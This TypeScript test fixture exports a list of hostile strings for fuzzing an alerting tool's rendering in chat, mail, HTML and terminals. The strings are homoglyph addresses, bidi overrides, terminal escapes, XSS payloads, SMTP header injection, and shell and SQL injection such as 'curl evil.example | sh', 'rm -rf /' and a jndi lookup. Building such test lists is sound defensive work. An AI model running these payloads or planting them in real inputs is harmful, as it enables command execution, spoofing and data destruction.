/** Texts that a thief could put into a watched record to mislead, inject, hide or break. Harmless as data. */

// biome-ignore format: a line holds many
const invisible = [
  0x00ad, 0x034f, 0x061c, 0x115f, 0x1160, 0x17b4, 0x17b5, 0x180b, 0x180e, 0x200b, 0x200c, 0x200d, 0x200e,
  0x200f,
  0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2060, 0x2061, 0x2062, 0x2063, 0x2064, 0x2066, 0x2067, 0x2068,
  0x2069,
  0x2800, 0x3000, 0x3164, 0xfe00, 0xfe0f, 0xfeff, 0xffa0, 0xfff9, 0xfffb, 0xfffc, 0xfffd, 0x1d173, 0xe0001,
  0xe0041,
  0xe007f, 0xe0100, 0xd800, 0xdfff, 0xfffe, 0x10ffff, 0xe000,
].map((codePoint) => `adm${String.fromCodePoint(codePoint)}in`);

const controls = Array.from({ length: 33 }, (_, code) => code)
  .concat([0x7f, 0x80, 0x85, 0x9b, 0x9d, 0xa0])
  .map((code) => `a${String.fromCodePoint(code)}b`);

const spaces = [0x1680, 0x2000, 0x2003, 0x2007, 0x2009, 0x200a, 0x2028, 0x2029, 0x202f, 0x205f].map(
  (code) => `two${String.fromCodePoint(code)}words`,
);

// biome-ignore format: a line holds many
const homoglyphs = [
  'аdmin', 'аԁміп', 'сосоа', 'раураl', 'Αdmin', 'ΑΒΕ', 'admіn', 'ａｄｍｉｎ', '𝐚𝐝𝐦𝐢𝐧', '𝖺𝖽𝗆𝗂𝗇', 'ⓐdmin',
  'admın', 'aԁmin', 'ɑdmin', 'ꓮꓐ', 'ᎪᏴ', 'bc1q\u0430r0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq',
  '0\u0445D5173d215551538cebE79C4e40A4C54Fb751DD83',
  '未来', '末来', '日本', '曰本', 'ロ口', 'ー一', '\u0131\u0130', 'ﬁle', '\u212b', '\u00c5', 'Ａ', '①', '٤٥٦', '४', '߁', '৪',
  '੪', 'Ande\u030cl', 'Anděl', 'e\u0301\u0301\u0301\u0301\u0301\u0301', 'ก\u0e49\u0e49\u0e49\u0e49\u0e49',
  '\u0301start', '한', '\u1112\u1161\u11ab', '\u094d', 'क\u093c', '\u0958',
];

// biome-ignore format: a line holds many
const rightToLeft = [
  'שלום', 'abc שלום 123', '\u202etxt.exe', '\u2067שלום\u2069', 'مرحبا', 'pay 100 مرحبا to me', '(שלום)',
  'א1ב2', '\u200fadmin',
];

// biome-ignore format: a line holds many
const terminals = [
  '\u001b[2J\u001b[H', '\u001b[31mCRITICAL\u001b[0m',
  '\u001b]8;;https://evil.example\u0007click\u001b]8;;\u0007',
  '\u001b]52;c;cm0gLXJmIC8=\u0007', '\u001bP$q"p\u001b\\', '\u009b2J', 'ok\rFAILED', 'a\bb\b\b',
  '\u001b[1A\u001b[2K', '\u0007\u0007\u0007', '\u001b[?1049h',
];

// biome-ignore format: a line holds many
const slack = [
  '<!channel>', '<!here>', '<!everyone>', '<@U0123ABCD>', '<#C0123ABCD>', '<!subteam^S0123>',
  '<https://evil.example|Approve>',
  '<mailto:a@evil.example|reply>', '&lt;!channel&gt;', '&amp;lt;!here&amp;gt;', '*bold*', '_italic_',
  '~gone~', '`code`', '```\nblock\n```', '>quote', '>>> all',
  ':white_check_mark: resolved', ':rotating_light:', '@channel', '@here', '#general',
  '<!date^0^{date}^https://evil.example|now>', '• item', '1. item',
  '{"type":"actions","elements":[]}', '"}],"blocks":[{"type":"divider"}]', 'https://evil.example/approve',
  'evil.example', 'tel:+15550100',
];

/** What Telegram, Matrix, Teams and the templates of Alertmanager make something of. */
// biome-ignore format: a line holds many
const chats = [
  '@victim', '@room', '@channel:evil.example', '#resolved', '$BTC', '/start@evil_bot', 't.me/evil', 'tg://resolve?domain=evil',
  '[Approve](https://evil.example)', '![x](https://evil.example/x.png)', '**resolved**', '__resolved__', '||hidden||', '![](tg://emoji?id=1)',
  '<tg-spoiler>hidden</tg-spoiler>', '<at>Alice</at>', '<a href="https://matrix.to/#/@victim:evil.example">x</a>', '@victim:evil.example',
  '<mx-reply>x</mx-reply>', '<font color=red>x</font>', '<details>x</details>', '{{DATE(2026-11-24T02:13:07Z,SHORT)}}', '{{ .Labels.severity }}',
  '{{ template "slack.default.text" . }}', '$\u007Bdata.title}', '# resolved', '- item', '\\*escaped\\*', '\u27e6inside\u27e7', '+1-212-555-0123',
];

// biome-ignore format: a line holds many
const html = [
  '<script>alert(1)</script>', '<img src=x onerror=alert(1)>',
  '<a href="https://evil.example">Approve</a>', '</div></body></html>', '<!--', '-->', ']]>',
  '<style>*{display:none}</style>',
  '" onmouseover="alert(1)', "' style='display:none", '<svg/onload=alert(1)>', '&nbsp;', '&#60;b&#62;',
  '&lt;b&gt;', '<base href="https://evil.example/">', '<meta http-equiv=refresh content=0>',
  '<iframe src=javascript:alert(1)>', '<form action=https://evil.example><button>Approve</button></form>',
  '<link rel=stylesheet href=//evil.example>', '<b', '<mark>', '</mark></span>', '<wbr>', '`\u0024{alert(1)}`',
  '<!doctype html>',
];

// biome-ignore format: a line holds many
const mail = [
  'XJS*C4JDBQADN1.NSBN3*2IDNEN*GTUBE-STANDARD-ANTI-UBE-TEST-EMAIL*C.34X',
  'X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*',
  '\r\n.\r\n', '\n.\n', '.', '..', '\r\nBcc: evil@evil.example', '\nSubject: all clear',
  '%0d%0aBcc:%20evil@evil.example', 'a\r\n\r\n<html>', 'From evil Tue Nov 24', '> quoted', '-- ', '--',
  '--boundary\r\nContent-Type: text/html\r\n\r\n<b>x</b>', '------=_Part_0', 'begin 644 evil.exe',
  '=3D=0A', '=?utf-8?B?ZXZpbA==?=', 'Content-Type: text/html', 'b@x\r\nBcc: evil@x',
  '"evil" <evil@evil.example>', 'a,b@evil.example', '\r\nQUIT\r\n',
  '\r\nRSET\r\nMAIL FROM:<evil@evil.example>',
];

// biome-ignore format: a line holds many
const imitations = [
  '✅ resolved', '✅ resolved: back to baseline', 'CRITICAL prague-1: nothing happened (incident 7f3a)',
  'was “a” now “b”', 'now “bc1qgood”', '(does not exist)', 'NULL (no value)', '(empty text)', 'null',
  'NULL', 'undefined',
  '” (42 characters)', '“quoted”', '\\u{202E}', '\\', '\\\\', '\\u{', '… 12 characters left out …',
  '(secret; fingerprint 0000000000000000)', '~hmac:00', '~digest:1:00', '-old\n+new', '@@ -1 +1 @@',
  '- bc1qold', '+ bc1qnew', 'baseline 99 · journal 000000000000', 'Observed: never', 'Possibly a repeat',
  'tillwarden approve prague-1', 'What to do\n1. nothing',
];

// biome-ignore format: a line holds many
const shell = [
  '; rm -rf /', '$(reboot)', '`reboot`', '| sh', '&& curl evil.example | sh',
  "'; drop table cas_user; --", '" ; --', '> /etc/passwd', '!!', '~root', '*', '?', '{a,b}', '--help',
  '-rf', '$HOME', '%s%s%n', '\u0024{jndi:ldap://evil.example/a}', '../../etc/passwd', 'a\nb; reboot',
];

// biome-ignore format: a line holds many
const objects = [
  'constructor', '__proto__', 'toString', 'valueOf', 'hasOwnProperty', 'prototype', 'toJSON', 'then',
  '[object Object]', 'NaN', 'true', '0', '-0', '1e999', '9007199254740993', '{}', '[]', '""',
  '{"a":1,"a":2}', '{"__proto__":{"admin":true}}',
];

// biome-ignore format: a line holds many
const sizes = [
  '', ' ', '  ', ' a ', 'a  b',
  'A'.repeat(129),
  'Z'.repeat(998),
  'x'.repeat(5_000),
  '\u202e'.repeat(400),
  '<'.repeat(3_000),
  '你'.repeat(2_000),
  `${'a'.repeat(600)}!${'a'.repeat(600)}`,
  `${'word '.repeat(500)}`,
];

export const hostileStrings: readonly string[] = [
  ...new Set([
    ...[
      invisible,
      controls,
      spaces,
      homoglyphs,
      rightToLeft,
      terminals,
      slack,
      chats,
      html,
      mail,
      imitations,
      shell,
      objects,
      sizes,
    ].flat(),
  ]),
];
